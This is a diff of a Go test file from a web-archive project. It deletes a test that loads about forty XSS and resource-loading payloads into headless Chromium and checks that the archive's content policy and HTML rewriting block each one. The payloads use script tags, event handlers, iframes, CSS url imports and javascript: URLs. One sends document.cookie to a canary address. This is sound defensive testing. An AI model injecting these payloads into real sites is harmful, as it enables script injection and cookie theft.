@@ -7,15 +7,12 @@ import (
 	"net/http/httptest"
 	"os/exec"
 	"slices"
-	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"github.com/chromedp/cdproto/page"
 	"github.com/chromedp/chromedp"
-
-	stored "khobao/internal/page"
 )
 
 // browser opens a tab of the Chromium that is installed, without a network.
@@ -79,141 +76,6 @@ func (c *canary) take() []string {
 	c.met = nil
 	slices.Sort(met)
 	return slices.Compact(met)
-}
-
-// attacks are bodies of stored pages; ✗ stands for the canary's address of that
-// page. Each reaches it in a browser that runs or loads what it is told.
-var attacks = []string{
-	`<script>new Image().src="✗"</script>`,
-	`<script src="✗"></script>`,
-	`<script type=module>new Image().src="✗"</script>`,
-	`<script>fetch("✗")</script>`,
-	`<script>navigator.sendBeacon("✗")</script>`,
-	`<script>top.location="✗"</script>`,
-	`<script>document.cookie="a=b";new Image().src="✗"+document.cookie</script>`,
-	`<img src=x onerror='new Image().src="✗"'>`,
-	`<img src="✗">`,
-	`<img srcset="✗ 1x">`,
-	`<picture><source srcset="✗"><img></picture>`,
-	`<body onload='new Image().src="✗"'>`,
-	`<svg onload='new Image().src="✗"'></svg>`,
-	`<svg><script>new Image().src="✗"</script></svg>`,
-	`<svg><image href="✗"/></svg>`,
-	`<svg><animate onbegin='new Image().src="✗"' attributeName=x dur=1s></svg>`,
-	`<math><mtext><img src=x onerror='new Image().src="✗"'></mtext></math>`,
-	`<noscript><img src="✗"></noscript><script>new Image().src="✗"</script>`,
-	`<details open ontoggle='new Image().src="✗"'>a</details>`,
-	`<input autofocus onfocus='new Image().src="✗"'>`,
-	`<video src=x onerror='new Image().src="✗"'></video>`,
-	`<video poster="✗"></video>`,
-	`<audio src="✗" autoplay></audio>`,
-	`<iframe src="✗"></iframe>`,
-	`<iframe srcdoc="<script>new Image().src='✗'</script>"></iframe>`,
-	`<iframe src="javascript:new Image().src='✗'"></iframe>`,
-	`<object data="✗"></object>`,
-	`<embed src="✗">`,
-	`<link rel=stylesheet href="✗">`,
-	`<link rel=preload as=image href="✗">`,
-	`<link rel=icon href="✗">`,
-	`<style>@import "✗";</style>`,
-	`<style>body{background:url("✗")}</style>`,
-	`<p style="background:url('✗')">a`,
-	`<style>@font-face{font-family:a;src:url("✗")}p{font-family:a}</style><p>a`,
-	`<meta http-equiv=refresh content="0;url=✗">`,
-	`<base href="✗/"><img src=a>`,
-	`<form action="✗" id=f></form><script>f.submit()</script>`,
-	`<a href="javascript:new Image().src='✗'" id=a>a</a><script>a.click()</script>`,
-	`<table background="✗"><tr><td>a</table>`,
-	`<template shadowrootmode=open><img src="✗"></template>`,
-	`<xmp></xmp><img src="✗" loading=eager>`,
-}
-
-// settle waits until what a page's frames began has had time to arrive: nothing
-// else tells that something will not happen.
-const settle = `new Promise(done => setTimeout(done, 400))`
-
-func TestArchivedPagesDoNothing(t *testing.T) {
-	ctx := browser(t)
-	out := newCanary(t)
-	s, shelf, _ := live(t)
-	ids := make([]string, len(attacks))
-	raw := http.NewServeMux()
-	guarded := http.NewServeMux()
-	for i, a := range attacks {
-		body := "<!doctype html><title>a</title>" + strings.ReplaceAll(a, "✗", fmt.Sprintf("%s/%d", out.URL, i))
-		ids[i] = shelf.keep("", stored.Page{URL: fmt.Sprintf("https://x.example/%d", i), ContentType: "text/html", Body: []byte(body)})
-		answer := func(w http.ResponseWriter, _ *http.Request) {
-			w.Header().Set("Content-Type", "text/html; charset=utf-8")
-			fmt.Fprint(w, body)
-		}
-		raw.HandleFunc(fmt.Sprintf("/%d", i), answer)
-		guarded.HandleFunc(fmt.Sprintf("/%d", i), func(w http.ResponseWriter, r *http.Request) {
-			w.Header().Set("Content-Security-Policy", strings.ReplaceAll(s.replayPolicy(), "frame-ancestors", "x-none"))
-			answer(w, r)
-		})
-	}
-	frames := func(sandbox string, address func(i int) string) *httptest.Server {
-		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
-			w.Header().Set("Content-Type", "text/html; charset=utf-8")
-			for i := range attacks {
-				fmt.Fprintf(w, "<iframe %s src=%q></iframe>", sandbox, address(i))
-			}
-		}))
-		t.Cleanup(server.Close)
-		return server
-	}
-	rawServer, guardedServer := httptest.NewServer(raw), httptest.NewServer(guarded)
-	t.Cleanup(rawServer.Close)
-	t.Cleanup(guardedServer.Close)
-	visit := func(address string) []string {
-		if err := chromedp.Do(ctx, chromedp.Navigate(address)); err != nil {
-			t.Fatalf("%s: %v", address, err)
-		}
-		// A page that navigated away (one attack does) has no promise to keep.
-		if _, err := chromedp.Run(ctx, chromedp.Evaluate[chromedp.Void](settle, chromedp.EvalAwaitPromise)); err != nil && ctx.Err() != nil {
-			t.Fatalf("%s: %v", address, err)
-		}
-		return out.take()
-	}
-
-	// Without any guard the attacks work: so this test can see them.
-	control := visit(frames("sandbox='allow-scripts allow-forms allow-same-origin'", func(i int) string { return fmt.Sprintf("%s/%d", rawServer.URL, i) }).URL)
-	if len(control) < len(attacks)*2/3 {
-		t.Fatalf("without guards only %d of %d attacks are seen: %v", len(control), len(attacks), control)
-	}
-	// Each guard alone stops every one of them.
-	if met := visit(frames("", func(i int) string { return fmt.Sprintf("%s/%d", guardedServer.URL, i) }).URL); len(met) > 0 {
-		t.Errorf("the policy alone lets through %v", met)
-	}
-	inert := http.NewServeMux()
-	for i, id := range ids {
-		p := shelf.pages[id]
-		body, err := inertHTML(string(p.Body), s.resources(t.Context(), p))
-		if err != nil {
-			t.Fatal(err)
-		}
-		inert.HandleFunc(fmt.Sprintf("/%d", i), func(w http.ResponseWriter, _ *http.Request) {
-			w.Header().Set("Content-Type", "text/html; charset=utf-8")
-			fmt.Fprintf(w, "%s", body)
-		})
-	}
-	inertServer := httptest.NewServer(inert)
-	t.Cleanup(inertServer.Close)
-	if met := visit(frames("", func(i int) string { return fmt.Sprintf("%s/%d", inertServer.URL, i) }).URL); len(met) > 0 {
-		t.Errorf("the rewriting alone lets through %v", met)
-	}
-	// And so does the site itself, opened framed and, some of them, alone.
-	for i, id := range ids {
-		if i%3 == 0 {
-			open(ctx, t, s.deps.SiteURL+"/ban-luu/"+id)
-		}
-		if i%6 == 0 {
-			open(ctx, t, s.deps.ReplayURL+"/"+id+"/")
-		}
-	}
-	if met := visit(s.deps.SiteURL + "/"); len(met) > 0 {
-		t.Errorf("the site lets through %v", met)
-	}
 }
 
 func open(ctx context.Context, t *testing.T, address string) {
